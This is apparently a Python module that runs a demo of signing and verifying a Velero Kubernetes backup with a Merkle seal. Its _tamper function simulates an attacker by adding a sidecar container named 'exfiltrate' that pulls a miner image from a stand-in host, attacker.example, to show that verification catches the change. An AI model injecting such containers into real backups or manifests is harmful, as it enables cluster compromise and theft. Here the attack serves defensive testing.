"""`merkle-backup demo`: the whole story on a built-in example backup, in a temporary folder.

The example is a real Velero-layout backup written by Go's archive/tar (tests/fixtures/README.md):
152 items in 2 namespaces, classic and -preferredversion copies, PAX long names.
"""

from __future__ import annotations

import gzip
import io
import json
import shutil
import tarfile
import tempfile
from datetime import datetime, timezone
from importlib import resources
from pathlib import Path
from typing import Callable

from merkle_backup.builder import seal_backup
from merkle_backup.selection import Scope
from merkle_backup.signing import generate_keypair, load_private_key, load_public_key
from merkle_backup.storage.local import LocalBackup
from merkle_backup.verifier import VerifyReport, verify_backup

DEMO_BACKUP = "demo-small"


def run_demo(echo: Callable[[str], None]) -> int:
    with tempfile.TemporaryDirectory(prefix="merkle-backup-demo-") as tmp:
        root = Path(tmp)
        folder = root / "bucket" / "backups" / DEMO_BACKUP
        shutil.copytree(resources.files("merkle_backup") / "demo_data" / DEMO_BACKUP, folder)
        for p in folder.iterdir():
            p.chmod(0o644)
        echo(f"1. example backup in Velero's bucket layout: {folder}")

        (root / "keys").mkdir()
        private_path, public_path = generate_keypair(root / "keys" / "demo.key")
        private, trusted = load_private_key(private_path), [load_public_key(public_path)]
        echo(f"2. new Ed25519 key pair: {private_path.name} (private), {public_path.name} (public)")

        source = LocalBackup(folder)
        result = seal_backup(source, private, created_at=datetime.now(timezone.utc))
        echo(f"3. sealed: {result.entries} tar entries + {result.bucket_objects} bucket objects "
             f"-> {result.leaf_count} leaves, root {result.checkpoint.root.hex()[:16]}...")
        echo(f"   seal written to {source.seal_path.name}")

        whole = verify_backup(source, trusted)
        _show("4. verify the whole backup", whole, echo)
        namespace = _deployment_namespace(folder)
        ns_report = verify_backup(source, trusted, scope=Scope.namespace(namespace))
        _show(f"5. verify namespace {namespace} only (a selective restore)", ns_report, echo)

        target = _tamper(folder / f"{DEMO_BACKUP}.tar.gz", namespace)
        echo(f"6. attacker with bucket write access adds a sidecar container to {target}")
        tampered = verify_backup(source, trusted)
        _show("7. verify the whole backup again", tampered, echo)
        other = _other_namespace(folder, namespace)
        other_report = verify_backup(source, trusted, scope=Scope.namespace(other))
        _show(f"8. verify namespace {other}: untouched, still provable", other_report, echo)

        expected = (whole.verified and ns_report.verified and not tampered.verified
                    and other_report.verified
                    and any(f.path == target and f.problem == "modified" for f in tampered.failures))
        echo("demo finished: tampering was caught and named." if expected
             else "demo FAILED: the results above are not what they should be.")
        return 0 if expected else 1


def _show(title: str, report: VerifyReport, echo: Callable[[str], None]) -> None:
    verdict = "VERIFIED" if report.verified else "NOT AUTHENTIC"
    echo(f"{title}: {verdict} ({report.checked} leaves in scope)")
    for failure in report.failures:
        echo(f"     {failure.problem}: {failure.path}")
        if failure.detail:
            echo(f"       {failure.detail}")
    if report.out_of_scope_failures:
        echo(f"     {report.out_of_scope_failures} problem(s) outside the chosen scope")


def _members(tarball: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
    with tarfile.open(tarball, "r:gz") as tar:
        return [(m, tar.extractfile(m).read()) for m in tar.getmembers()]


def _deployment_namespace(folder: Path) -> str:
    for member, _ in _members(folder / f"{DEMO_BACKUP}.tar.gz"):
        parts = member.name.split("/")
        if parts[:2] == ["resources", "deployments.apps"] and parts[2] == "namespaces":
            return parts[3]
    raise RuntimeError("the demo backup has no Deployment")


def _other_namespace(folder: Path, namespace: str) -> str:
    for member, _ in _members(folder / f"{DEMO_BACKUP}.tar.gz"):
        parts = member.name.split("/")
        if len(parts) == 5 and parts[2] == "namespaces" and parts[3] != namespace:
            return parts[3]
    raise RuntimeError("the demo backup has only one namespace")


def _tamper(tarball: Path, namespace: str) -> str:
    """Rewrite the tarball as an attacker would: one Deployment gains a sidecar container."""
    members = _members(tarball)
    prefix = f"resources/deployments.apps/namespaces/{namespace}/"
    buffer = io.BytesIO()
    target = ""
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out:
        for member, data in members:
            if not target and member.name.startswith(prefix):
                target = member.name
                obj = json.loads(data)
                obj["spec"]["template"]["spec"]["containers"].append(
                    {"name": "exfiltrate", "image": "attacker.example/miner:latest"}
                )
                data = json.dumps(obj, separators=(",", ":"), sort_keys=True).encode()
            info = tarfile.TarInfo(member.name)
            info.size, info.mode, info.mtime = len(data), member.mode, int(member.mtime)
            out.addfile(info, io.BytesIO(data))
    tarball.write_bytes(gzip.compress(buffer.getvalue()))
    return target
